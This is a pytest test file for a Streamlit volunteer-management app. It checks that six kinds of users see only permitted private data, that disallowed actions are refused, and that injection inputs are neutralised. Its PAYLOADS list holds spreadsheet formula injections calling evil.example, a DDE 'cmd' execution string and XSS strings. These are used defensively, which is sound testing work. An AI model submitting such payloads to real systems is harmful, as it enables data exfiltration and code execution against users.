"""Who may see and do what: every page for six kinds of people, private values, refused actions,
injection payloads."""
from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from documents.spreadsheets import frame_as_sheet, xlsx_bytes
from connectors.live import LiveWorkbook
from connectors.parsing import parse_snapshot
from connectors.sqlite_workbook import SqliteWorkbook
from services.activities import Refused, check_in, sign_up
from services.requests import act, submit
from tests.pages import rendered
from ui.display import plain
from ui.pages import PAGES, menu_keys
from workflows.access import SIGNED_OUT, viewer_for
from workflows.clock import local_now
from demo.codes import DEMO_CODES, load_demo_rows
from workflows.hours import review_changes

APP = str(Path(__file__).resolve().parent.parent / "app.py")
BRANCH = "计算机学院第一学生党支部"
OTHER = "数学与统计学院第一学生党支部"


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    url = f"sqlite:///{tmp_path_factory.mktemp('matrix') / 'w.sqlite3'}"
    book = SqliteWorkbook(url)
    book.ensure_schema()
    for table, rows in load_demo_rows(local_now("Asia/Shanghai").replace(microsecond=0)):
        book.append(table, rows)
    return url


def personas(tables) -> dict[str, str | None]:
    people = tables["people"]
    other_volunteer = people[(people["branch"] == OTHER) & (people["role"] == "volunteer") & people["active"]]
    other_coordinator = people[(people["branch"] == OTHER) & (people["role"] == "coordinator")]
    return {"signed out": None, "volunteer": DEMO_CODES[0][0], "member of another branch":
            other_volunteer.iloc[0]["person_id"], "coordinator of the branch": DEMO_CODES[1][0],
            "coordinator of another branch": other_coordinator.iloc[0]["person_id"], "leader": DEMO_CODES[2][0]}


def forbidden_values(tables, viewer) -> set[str]:
    """The private values of the workbook this viewer must never be shown."""
    people, found = tables["people"], set()
    branch_of = dict(zip(people["person_id"], people["branch"]))
    for row in people.itertuples():
        if not (viewer.person_id == row.person_id or viewer.is_coordinator_of(row.branch)):
            found |= {v for v in (row.phone, row.email) if v}
    for row in tables["activities"].itertuples():
        if row.checkin_code and not (viewer.role == "coordinator" and row.branch in ("", viewer.branch)):
            found.add(row.checkin_code)
    for row in tables["requests"].itertuples():
        if row.contact and not (viewer.person_id == row.requester_id
                                or viewer.is_coordinator_of(branch_of.get(row.requester_id))):
            found.add(row.contact)
    for row in tables["hours"].itertuples():
        if row.evidence.startswith("http") and not (viewer.person_id == row.person_id
                                                    or viewer.is_coordinator_of(branch_of.get(row.person_id))):
            found.add(row.evidence)
    return found | {code for _, code, *_ in DEMO_CODES}  # sign-in codes: never shown


@pytest.mark.parametrize("persona", ["signed out", "volunteer", "member of another branch",
                                     "coordinator of the branch", "coordinator of another branch", "leader"])
def test_every_page_shows_each_kind_of_person_only_what_they_may_see(demo, monkeypatch, persona):
    monkeypatch.setenv("WORKBOOK_URL", demo)
    tables = parse_snapshot(SqliteWorkbook(demo).snapshot())
    person_id = personas(tables)[persona]
    viewer = viewer_for(tables["people"], person_id) if person_id else SIGNED_OUT
    forbidden = forbidden_values(tables, viewer)
    allowed_pages = set(menu_keys(viewer)) | {"sign_in"}
    for page in PAGES:
        at = AppTest.from_file(APP, default_timeout=90)
        at.context = {"locale": "zh-CN"}
        if person_id:
            at.session_state["person_id"] = person_id
        at.run()
        at.switch_page(page.path).run()
        assert not at.exception, (persona, page.key, at.exception)
        text = rendered(at)
        leaked = sorted(value for value in forbidden if value in text)
        assert leaked == [], (persona, page.key, leaked[:5])
        if page.key not in allowed_pages:
            assert [m.value for m in (*at.main.info, *at.main.warning)], (persona, page.key)
            assert not at.main.dataframe and not at.main.get("table"), (persona, page.key)


def test_refused_actions_are_refused_by_the_rules_not_only_hidden(demo):
    live = LiveWorkbook(SqliteWorkbook(demo), interval_seconds=0)
    tables = live.data().tables
    who = personas(tables)
    volunteer = viewer_for(tables["people"], who["volunteer"])
    other_coordinator = viewer_for(tables["people"], who["coordinator of another branch"])
    clock = lambda: local_now("Asia/Shanghai")  # noqa: E731
    future = tables["activities"].query("status == 'open' and branch == @BRANCH").iloc[0]["activity_id"]
    with pytest.raises(Refused, match="not_yours|you may not"):
        sign_up(live, future, who["member of another branch"], volunteer.person_id, clock, actor=volunteer)
    with pytest.raises(Refused):
        check_in(live, future, volunteer.person_id, None, volunteer.person_id, clock, actor=volunteer)
    with pytest.raises(Refused):
        check_in(live, future, volunteer.person_id, None, other_coordinator.person_id, clock, actor=other_coordinator)
    pending = tables["hours"][tables["hours"]["status"] == "pending"]
    mine = pending[pending["person_id"].isin(tables["people"].query("branch == @BRANCH")["person_id"])].iloc[0]
    assert review_changes(tables, other_coordinator, [mine["entry_id"]], "approved", "", clock())[1] == {
        mine["entry_id"]: "not_your_branch"}
    request_id = submit(live, {"title": "测试", "category": "维修"}, volunteer, clock)
    with pytest.raises(Refused):
        act(live, request_id, "accept", volunteer, clock)


PAYLOADS = ['=IMPORTXML("http://evil.example/x","//a")', '=HYPERLINK("http://evil.example","点我")',
            "+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "![x](http://evil.example/track.png)", "a\x07b\x1bc"]


def test_injection_payloads_are_stored_literally_shown_as_text_and_exported_neutralised(tmp_path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'w.sqlite3'}"
    book = SqliteWorkbook(url)
    book.ensure_schema()
    book.append("people", [{"person_id": "1", "name": "甲", "political_status": "masses"}])
    live = LiveWorkbook(book, interval_seconds=0)
    viewer = viewer_for(live.data().tables["people"], "1")
    clock = lambda: dt.datetime(2025, 12, 1, 12, 0)  # noqa: E731
    for payload in PAYLOADS:
        submit(live, {"title": payload, "category": "其他", "details": payload}, viewer, clock)
    stored = parse_snapshot(book.snapshot())["requests"]
    assert sorted(stored["title"]) == sorted(p.strip() for p in PAYLOADS)  # trimmed, otherwise literal
    with pytest.raises(Refused):
        submit(live, {"title": "x" * 100_000, "category": "其他"}, viewer, clock)

    monkeypatch.setenv("WORKBOOK_URL", url)
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["person_id"] = "1"
    at.run()
    at.switch_page("pages/requests.py").run()
    assert not at.exception
    markdown = " ".join(m.value for m in at.markdown)
    for payload in PAYLOADS:  # every punctuation mark escaped: no link, image, emphasis or formula
        assert f"**{plain(payload.strip())}**" in markdown, payload
    sources = [*Path(APP).parent.glob("pages/*.py"), *Path(APP).parent.glob("ui/*.py"), Path(APP)]
    assert not any("unsafe_allow_html" in source.read_text(encoding="utf-8") for source in sources)

    tables = parse_snapshot(book.snapshot())
    sheet = frame_as_sheet("requests", tables["requests"], tables.labels["requests"])
    workbook = load_workbook(io.BytesIO(xlsx_bytes([sheet])))
    cells = [cell for row in workbook["requests"].iter_rows() for cell in row if cell.value]
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))  # text, never a formula
    assert not [cell for cell in cells if cell.data_type == "f"]  # (times and numbers are typed cells)
    from documents.spreadsheets import to_csv_text

    csv_text = to_csv_text(sheet)
    for payload in ("=IMPORTXML", "=HYPERLINK", "+cmd", "@SUM"):
        assert f"'{payload}" in csv_text and f",{payload}" not in csv_text
